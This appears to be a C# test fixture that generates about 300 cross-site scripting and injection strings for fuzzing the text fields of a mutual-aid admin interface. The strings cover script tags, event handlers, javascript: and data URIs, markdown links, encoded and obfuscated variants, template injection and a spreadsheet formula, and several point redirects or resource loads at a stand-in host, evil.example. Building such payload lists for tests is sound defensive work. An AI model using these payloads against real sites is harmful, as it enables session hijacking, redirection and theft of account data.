namespace MutualAid.Tests.Admin;

/// <summary>Three hundred ways in which words become a program, for every field that takes words.</summary>
internal static class HostileWords
{
    private static readonly string[] Calls =
    [
        "alert(1)",
        "fetch('/accounts')",
        "document.title='hit'",
        "window.hit=1",
        "top.location='//evil.example'",
    ];

    private static readonly string[] Shapes =
    [
        "<script>{0}</script>",
        "\"><script>{0}</script>",
        "'><script>{0}</script>",
        "</title><script>{0}</script>",
        "</textarea><script>{0}</script>",
        "</option></select><script>{0}</script>",
        "<img src=x onerror={0}>",
        "\"><img src=x onerror=\"{0}\">",
        "<svg onload={0}>",
        "<svg><script>{0}</script></svg>",
        "<svg><a xlink:href=\"javascript:{0}\"><text>口罩</text></a></svg>",
        "<math><mi xlink:href=\"javascript:{0}\">口罩</mi></math>",
        "<iframe src=\"javascript:{0}\"></iframe>",
        "<iframe srcdoc=\"<script>{0}</script>\"></iframe>",
        "<object data=\"javascript:{0}\"></object>",
        "<embed src=\"javascript:{0}\">",
        "<a href=\"javascript:{0}\">口罩</a>",
        "<a href=\" &#106;avascript:{0}\">口罩</a>",
        "<a href=\"java\tscript:{0}\">口罩</a>",
        "<a href=\"data:text/html,<script>{0}</script>\">口罩</a>",
        "<body onload={0}>",
        "<details open ontoggle={0}>口罩",
        "<input autofocus onfocus={0}>",
        "\" autofocus onfocus=\"{0}",
        "' onmouseover='{0}",
        "\" onclick=\"{0}\" x=\"",
        "<video><source onerror={0}></video>",
        "<audio src=x onerror={0}>",
        "<marquee onstart={0}>口罩</marquee>",
        "<style>@import '//evil.example';</style>{0}",
        "<link rel=stylesheet href=//evil.example>{0}",
        "<base href=//evil.example/>{0}",
        "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
        "<form action=//evil.example><button>{0}</button></form>",
        "<button formaction=\"javascript:{0}\">口罩</button>",
        "[口罩](javascript:{0})",
        "[口罩](JaVaScRiPt:{0})",
        "[口罩](data:text/html;base64,PHNjcmlwdD4x {0})",
        "![口罩](javascript:{0})",
        "![x](x \"onerror={0}\")",
        "<javascript:{0}>",
        "[a]: javascript:{0}\n\n[a]",
        "`<script>{0}</script>`",
        "```\n</code></pre><script>{0}</script>\n```",
        "&lt;script&gt;{0}&lt;/script&gt;",
        "&#60;script&#62;{0}&#60;/script&#62;",
        "%3Cscript%3E{0}%3C/script%3E",
        "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
        "＜script＞{0}＜/script＞",
        "<scr<script>ipt>{0}</scr</script>ipt>",
        "<SCRIPT/XSS SRC=//evil.example/x.js>{0}</SCRIPT>",
        "<!--<img src=\"--><img src=x onerror={0}//\">",
        "<![CDATA[<script>{0}</script>]]>",
        "<?xml version=1?><script>{0}</script>",
        "{{{{constructor.constructor('{0}')()}}}}",
        "${{{0}}}",
        "@(await {0})",
        "=HYPERLINK(\"javascript:{0}\")",
        "\u202e<script>{0}</script>",
        "\u0000<script>{0}</script>",
    ];

    public static IReadOnlyList<string> All { get; } =
    [.. Shapes.SelectMany(shape => Calls.Select(call => string.Format(System.Globalization.CultureInfo.InvariantCulture, shape, call)))];
}
